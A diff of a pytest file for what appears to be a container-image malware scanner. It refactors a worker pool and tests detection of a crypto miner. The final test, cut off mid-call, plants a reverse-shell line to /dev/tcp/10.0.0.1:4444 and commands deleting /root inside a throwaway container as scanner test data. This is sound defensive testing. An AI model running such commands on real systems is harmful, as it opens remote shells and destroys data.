@@ -2,12 +2,10 @@
 
 import asyncio
 import json
-import multiprocessing
 import os
 import subprocess
 import sys
 from collections.abc import Iterator
-from concurrent.futures import ProcessPoolExecutor
 from pathlib import Path
 
 import docker
@@ -15,14 +13,15 @@ import pytest
 
 from pratique.model import FindingKind, ImageId, Report
 from pratique.pipelines.scan import scan_engine_image, scan_file
+from pratique.pipelines.workers import Workers
 from pratique.runtime import Engine
 from testbed import images
 from testbed.engine import ThrowAwayEngine
 
 
 @pytest.fixture(scope="module")
-def pool() -> Iterator[ProcessPoolExecutor]:
-    with ProcessPoolExecutor(1, mp_context=multiprocessing.get_context("spawn")) as pool:
+def pool() -> Iterator[Workers]:
+    with Workers(1) as pool:
         yield pool
 
 
@@ -34,7 +33,7 @@ def miner(client: docker.DockerClient) -> Iterator[images.Image]:
     client.images.remove(image.reference, force=True)
 
 
-def scan(engine: ThrowAwayEngine, image_id: str, pool: ProcessPoolExecutor) -> Report:
+def scan(engine: ThrowAwayEngine, image_id: str, pool: Workers) -> Report:
     async def run() -> Report:
         async with Engine.connect(engine.url) as connection:
             return await scan_engine_image(connection, ImageId(image_id), pool=pool)
@@ -49,7 +48,7 @@ def command(engine: ThrowAwayEngine, *arguments: str) -> subprocess.CompletedPro
     )
 
 
-def test_innocent_image_has_packages_and_no_malware(engine: ThrowAwayEngine, pool: ProcessPoolExecutor) -> None:
+def test_innocent_image_has_packages_and_no_malware(engine: ThrowAwayEngine, pool: Workers) -> None:
     report = scan(engine, images.base().id, pool)
     assert report.image.id == images.base().id
     assert report.distribution == "alpine 3.19.1"
@@ -58,7 +57,7 @@ def test_innocent_image_has_packages_and_no_malware(engine: ThrowAwayEngine, poo
     assert report.unread == ()
 
 
-def test_miner_is_found(engine: ThrowAwayEngine, miner: images.Image, pool: ProcessPoolExecutor) -> None:
+def test_miner_is_found(engine: ThrowAwayEngine, miner: images.Image, pool: Workers) -> None:
     report = scan(engine, miner.id, pool)
     (finding,) = [finding for finding in report.findings if finding.kind is FindingKind.MALWARE]
     assert (finding.rule, finding.path) == ("miner-program", "usr/bin/xmrig")
@@ -80,7 +79,7 @@ def test_unknown_image_is_one_error(engine: ThrowAwayEngine) -> None:
 
 
 def test_saved_image_gives_the_report_of_the_engines(
-    engine: ThrowAwayEngine, client: docker.DockerClient, pool: ProcessPoolExecutor, tmp_path: Path
+    engine: ThrowAwayEngine, client: docker.DockerClient, pool: Workers, tmp_path: Path
 ) -> None:
     path = tmp_path / "saved.tar"
     with path.open("wb") as file:
@@ -92,7 +91,7 @@ def test_saved_image_gives_the_report_of_the_engines(
 
 
 def test_what_a_container_left_behind_is_seen_after_commit(
-    engine: ThrowAwayEngine, client: docker.DockerClient, pool: ProcessPoolExecutor
+    engine: ThrowAwayEngine, client: docker.DockerClient, pool: Workers
 ) -> None:
     script = "echo 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' > /tmp/x.sh; rm /usr/bin/probe; rm -r /root; mkdir /root"
     container = client.containers.run(
